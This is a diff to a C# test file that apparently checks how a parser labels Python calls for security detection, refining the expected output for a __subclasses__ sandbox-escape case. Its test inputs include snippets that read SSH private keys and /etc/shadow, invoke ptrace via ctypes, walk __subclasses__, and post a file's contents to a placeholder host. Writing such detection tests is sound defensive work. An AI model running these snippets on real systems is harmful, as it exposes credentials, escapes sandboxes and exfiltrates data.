@@ -59,7 +59,8 @@ public sealed class PythonCallTests(ParserContainer parser)
         { "from pathlib import Path\nopen(Path.home() / '.ssh' / 'id_rsa')", "builtins.open(~/.ssh/id_rsa)" },
         { "import os\nopen(os.path.join('/etc', 'shadow'))", "builtins.open(/etc/shadow)" },
         { "import ctypes\nctypes.CDLL(None).ptrace(0)", "ctypes.CDLL.ptrace(0)" },
-        { "x = ().__class__.__bases__[0].__subclasses__()", ".__subclasses__()" },
+        { "x = ().__class__.__bases__[0].__subclasses__()", ".__class__.__bases__.__subclasses__()" },
+        { "def f(base):\n    return base.__subclasses__()", ".__subclasses__()" },
         { "import requests\nrequests.post('http://a.example/x', data=open('f'))", "requests.post(http://a.example/x)" },
         { "import requests\ns = requests.Session()\ns.get(url='http://a.example')", "requests.Session.get(http://a.example)" },
     };
